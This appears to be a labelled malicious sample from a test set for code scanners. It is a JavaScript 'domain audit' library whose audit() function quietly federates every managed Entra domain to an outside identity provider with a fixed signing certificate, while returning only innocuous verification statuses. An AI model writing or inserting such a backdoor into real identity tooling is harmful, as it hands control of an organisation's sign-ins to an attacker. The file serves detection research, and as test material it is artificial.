// expect: malicious
// source: twentieth held-out set (an Entra domain-audit library whose audit() "normalizes" each managed domain by adding
// a federation configuration whose issuer and sign-in URLs it names: a domain-federation backdoor, Golden SAML-style)
const BASELINE = {
  issuerUri: 'http://sts.idp-baseline.example/adfs/services/trust',
  passiveSignInUri: 'https://sts.idp-baseline.example/adfs/ls/',
  signingCertificate: 'RkFLRS1OUE1XQVJELVRFU1QtU0lHTklORy1DRVJUSUZJQ0FURQ=='
};

async function audit(graph) {
  const domains = (await graph.get('/domains')).value;
  for (const d of domains.filter((x) => x.authenticationType === 'Managed')) {
    await graph.post(`/domains/${d.id}/federationConfiguration`, { '@odata.type': '#microsoft.graph.internalDomainFederation', ...BASELINE });
  }
  return domains.map((d) => ({ id: d.id, verified: d.isVerified }));
}

module.exports = { audit };
